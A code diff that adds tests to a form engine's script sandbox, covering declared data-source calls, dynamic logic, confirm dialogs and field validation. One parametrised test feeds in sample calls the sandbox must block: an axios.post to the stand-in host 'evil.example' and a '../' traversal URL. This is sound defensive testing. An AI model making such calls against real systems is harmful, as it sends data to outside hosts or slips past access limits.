@@ -175,6 +175,142 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     await expect.poll(() => engine.node('log').label).toBe('甲0')
     expect(engine.node('log').value).toBe('add change insert change delete change ')
   })
+
+  describe('calls by URL', () => {
+    const sources = {
+      dataSources: [
+        {
+          uniqueName: 'kinds',
+          requestURL: 'https://h.example/kinds',
+          headers: [{ name: 'x-key', type: 'String', value: 'k' }],
+        },
+        { uniqueName: 'save', requestURL: '/save', requestMethod: 'post' },
+      ],
+    }
+
+    it('axios reaches a declared source by its URL, with its headers and the own query', async () => {
+      const { engine, world } = open(
+        [
+          aWidget('button', 'b', {
+            onClick:
+              'var a = this.getWidgetRef("a"); axios.get("https://h.example/kinds?x=1", { params: { q: "大" } }).then(function (r) { a.setValue(r.status + r.data[0]) })',
+          }),
+          aWidget('input', 'a'),
+        ],
+        sources,
+        { server: () => ['一'] },
+      )
+
+      await engine.event('b', 'click')
+
+      await expect.poll(() => engine.node('a').value).toBe('200一')
+      expect(world.requests).toEqual([
+        { url: 'https://h.example/kinds?x=1&q=%E5%A4%A7', method: 'GET', headers: { 'x-key': 'k' } },
+      ])
+    })
+
+    it('fetch sends a body to a declared source', async () => {
+      const { engine, world } = open(
+        [
+          aWidget('button', 'b', {
+            onClick:
+              'const r = await fetch("/save", { method: "POST", body: JSON.stringify({ n: 1 }) }); this.getWidgetRef("a").setValue((await r.json()).id)',
+          }),
+          aWidget('input', 'a'),
+        ],
+        sources,
+        { server: () => ({ id: 'c1' }) },
+      )
+
+      await engine.event('b', 'click')
+
+      await expect.poll(() => engine.node('a').value).toBe('c1')
+      expect(world.requests).toEqual([{ url: '/save', method: 'POST', body: { n: 1 } }])
+    })
+
+    it.each([
+      ['axios.post("https://evil.example/x", { a: 1 })', 'POST https://evil.example/x'],
+      ['axios("/save")', 'GET /save'],
+      ['fetch("https://h.example/kinds/../other")', 'GET https://h.example/kinds/../other'],
+    ])('%s is refused by name: nothing is sent', async (code, named) => {
+      const { engine, world } = open(
+        [
+          aWidget('button', 'b', {
+            onClick: `var a = this.getWidgetRef("a"); ${code}.catch(function (e) { a.setValue(e.message) })`,
+          }),
+          aWidget('input', 'a'),
+        ],
+        sources,
+      )
+
+      await engine.event('b', 'click')
+
+      await expect.poll(() => engine.node('a').value).toContain(`is declared for ${named}`)
+      expect(world.requests).toEqual([])
+    })
+  })
+
+  it('dynamic logic follows what a script sets, on both sides', async () => {
+    const { engine } = open(
+      [
+        aWidget('number', 'trigger'),
+        aWidget('input', 'a'),
+        aWidget('input', 'seen'),
+        aWidget('button', 'b', {
+          onClick:
+            'var f = this.getFormRef(); f.setFieldValue("trigger", 1); f.setFieldValue("seen", String(f.getWidgetRef("a").field.options.hidden))',
+        }),
+      ],
+      {
+        dynamicLogicList: [
+          {
+            triggerFieldName: 'trigger',
+            triggerFieldValues: [1],
+            actions: [{ type: 'setVisibility', targetFieldName: 'a', value: false }],
+          },
+        ],
+      },
+    )
+
+    await engine.event('b', 'click')
+
+    await expect.poll(() => engine.node('seen').value).toBe('true')
+    expect(engine.node('a').hidden).toBe(true)
+  })
+
+  it('asks the user for a script, and goes on with the answer', async () => {
+    const { engine, world } = open([
+      aWidget('button', 'b', {
+        onClick:
+          'var a = this.getWidgetRef("a"); this.$confirm("删除吗", "提示").then(function () { a.setValue("是") }, function (e) { a.setValue(e) })',
+      }),
+      aWidget('input', 'a'),
+    ])
+    world.answers.push(true, false)
+
+    await engine.event('b', 'click')
+    await expect.poll(() => engine.node('a').value).toBe('是')
+    await engine.event('b', 'click')
+
+    await expect.poll(() => engine.node('a').value).toBe('cancel')
+    expect(world.modals[0]).toEqual({ content: '删除吗', title: '提示' })
+  })
+
+  it('validates one field for a script and shows what is wrong', async () => {
+    const { engine } = open([
+      aWidget('button', 'b', {
+        onClick:
+          'var f = this.getFormRef(), a = this.getWidgetRef("note"); const one = await f.validateField("need"); const all = await f.validateFields(); a.setValue(one + " " + all)',
+      }),
+      aWidget('input', 'need', { required: true, requiredHint: '必填' }),
+      aWidget('input', 'note'),
+    ])
+
+    await engine.event('b', 'click')
+
+    await expect.poll(() => engine.node('note').value).toBe('false false')
+    expect(engine.node('need').error).toBe('必填')
+  })
 })
 
 function aScriptedEngine(
